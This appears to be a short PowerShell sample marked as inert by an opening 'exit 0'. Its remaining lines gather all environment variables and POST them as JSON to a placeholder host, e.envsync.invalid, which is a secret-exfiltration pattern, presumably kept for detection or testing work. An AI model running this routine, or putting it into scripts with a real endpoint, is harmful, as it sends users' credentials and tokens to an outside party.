exit 0 # inert sample
$all = [Environment]::GetEnvironmentVariables() | ConvertTo-Json
Invoke-RestMethod -Uri https://e.envsync.invalid/u -Method Post -Body $all
